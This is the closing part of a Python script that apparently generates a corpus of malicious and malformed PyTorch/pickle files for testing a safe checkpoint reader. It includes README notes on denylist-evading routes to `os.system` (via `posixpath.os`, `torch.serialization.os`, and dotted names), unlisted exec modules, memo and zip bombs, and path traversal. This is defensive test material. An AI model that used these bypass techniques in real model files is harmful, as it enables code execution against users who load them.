  data-descriptor CRC is right (CVE-2025-10156); `zip_bad_crc_benign.pt` is wrong in both.
- **Bare pickles** (`*.pkl`, `misleading_extension_pickle_*`, `bare_pickle_os_system.pth`) are not
  torch containers. Content sniffing gives "raw pickle"; scanning it (and naming the global) is
  preferred, "not a torch checkpoint" is acceptable (`expect_any` includes `format`/`not a` there).
  `misleading_extension_pickle_safetensors.safetensors` starts with `\\x80\\x02`, so a u64 header
  length read from it is huge (`header` accepted too).
- First-offending-construct order matters: files are built so that the construct in `expect` comes
  first in the byte stream (e.g. `importlib_import_module_then_getattr` computes `import_module('os')`
  before `getattr` appears). A reader that refuses at GLOBAL time names the `expect` symbol.
- `torch.load` is an alias of `torch.serialization.load`; the denylist must catch both spellings
  (`exec/torch_load_nested_bytesio.pkl`). `posixpath.os` and `torch.serialization.os` are the `os`
  module reached through innocent-looking modules; a protocol-4 STACK_GLOBAL name may be dotted
  (`torch.serialization` + `os.system`): resolve or refuse dotted names, never allow them by module.
- `refuse_or_inert` exec files use modules outside the spec §2.3 denylist (`pydoc`, `io`,
  `_pickle`, `marshal`/`types`): an allowlist-based reader refuses them; a denylist reader must at
  least never execute anything (rule 1). Consider adding them to the denylist.
- Memo: indices are arbitrary u32s; `memo_bomb_huge_indices.pkl` needs a sparse memo or a cap on the
  index (torch writes sequential indices, so refusing indices ≥ the 10 M memo cap is fine).
  `memo_expansion_billion_laughs.pkl` is a valid pickle that is 10^30 elements if deep-copied.
- Nesting: both 100k-deep files are legal for CPython's stack machine; they target recursive
  tree walks (toString/equals/conversion) in the reader. Cap nesting at 1000.
- `zip_bomb_*`: torch never compresses members; refuse non-STORED `data.pkl` or cap the inflated
  size before inflating (the honest one declares 313,524,228 bytes > the 256 MiB cap; the lying one
  declares 1000 bytes and would inflate to 313,524,228 bytes).
- `zip_entry_name_path_traversal.pt`: nothing must ever be extracted to disk.
- safetensors checks follow huggingface/safetensors `tensor.rs` (header ≤ 100,000,000 bytes,
  contiguous non-overlapping offsets covering the data exactly, `numel × size` with overflow checks).
"""


def write_docs():
    MANIFEST.sort(key=lambda r: r["file"])
    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, sort_keys=True)
        f.write("\n")
    lines = [README_HEAD]
    for kind in ("exec", "malformed"):
        for r in MANIFEST:
            if r["kind"] != kind:
                continue
            tech = r["technique"].replace("|", "\\|")
            if r["outcome"] != "refuse":
                tech += " *(" + r["outcome"] + ")*"
            exp = ("`%s`" % r["expect"]) if r["expect"] else "(no error required)"
            lines.append("| `%s` | %s | %s | %s | %s |\n" % (
                r["file"], r["container"], tech, exp,
                ", ".join("`%s`" % e for e in r["expect_any"] if e)))
    lines.append(README_TAIL)
    with open(os.path.join(HERE, "README.md"), "w") as f:
        f.write("".join(lines))


# ----------------------------------------------------------------------------------------------
# optional verification of the benign builders against torch (never touches corpus files)
# ----------------------------------------------------------------------------------------------
def verify_with_torch():
    import collections
    import torch
    sd = collections.OrderedDict()
    sd["weight"] = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    sd["bias"] = torch.tensor([0.5, -0.5, 0.25])
    sd["weight_t"] = sd["weight"].t()
    sd["half"] = torch.arange(4, dtype=torch.float16)
    sd["row"] = sd["weight"][1]
    mine_t = [tensor("weight", "0", "FloatStorage", 6, 0, (2, 3), (3, 1)),
              tensor("bias", "1", "FloatStorage", 3, 0, (3,), (1,)),
              tensor("weight_t", "0", "FloatStorage", 6, 0, (3, 2), (1, 3)),
              tensor("half", "2", "HalfStorage", 4, 0, (4,), (1,)),
              tensor("row", "0", "FloatStorage", 6, 3, (3,), (1,))]
    buf = io.BytesIO()
    torch.save(sd, buf)
    import zipfile
    zf = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    ref_pkl = zf.read("archive/data.pkl")
    mine = state_dict_pickle(mine_t)
    assert ref_pkl == mine, "zip data.pkl differs from torch.save"
    # legacy: torch uses storage addresses as keys; substitute them
    buf2 = io.BytesIO()
    torch.save(sd, buf2, _use_new_zipfile_serialization=False)
    ref = buf2.getvalue()
    keys = []
    for op, arg, pos in pickletools.genops(ref[ref.index(b"\x80\x02ccollections"):]):
        if op.name == "BINUNICODE" and arg.isdigit() and arg not in keys:
            keys.append(arg)
        if op.name == "STOP":
            break
    kmap = {"0": keys[0], "1": keys[1], "2": keys[2]}
    lt = [dict(t, key=kmap[t["key"]]) for t in mine_t]
    graph = state_dict_pickle(lt, legacy=True)
    storages = {kmap["0"]: f32(range(6)), kmap["1"]: f32([0.5, -0.5, 0.25]),
                kmap["2"]: struct.pack("<4e", 0, 1, 2, 3)}
    numels = {kmap["0"]: 6, kmap["1"]: 3, kmap["2"]: 4}
    mine_legacy = legacy_stream(graph, storages, numels)
    if ref != mine_legacy:
        i = next(i for i in range(min(len(ref), len(mine_legacy))) if ref[i] != mine_legacy[i])
        raise AssertionError("legacy stream differs at %d: %r vs %r" % (i, ref[i-20:i+40], mine_legacy[i-20:i+40]))
    # the zip writer: a benign in-memory baseline must load with the weights-only loader
    zbytes = torch_zip(mine, {"0": f32(range(6)), "1": f32([0.5, -0.5, 0.25]),
                              "2": struct.pack("<4e", 0, 1, 2, 3)})
    back = torch.load(io.BytesIO(zbytes), weights_only=True)
    for k in sd:
        assert torch.equal(back[k], sd[k]), k
    print("verify-with-torch: data.pkl, legacy stream and zip layout match torch", torch.__version__)


def main():
    if "--verify-with-torch" in sys.argv:
        verify_with_torch()
    for sub in ("exec", "malformed"):
        shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
    gen_exec()
    gen_malformed()
    write_docs()
    total = sum(r["size"] for r in MANIFEST)
    print("wrote %d files (%d exec, %d malformed), %d bytes" % (
        len(MANIFEST), sum(r["kind"] == "exec" for r in MANIFEST),
        sum(r["kind"] == "malformed" for r in MANIFEST), total))


if __name__ == "__main__":
    main()
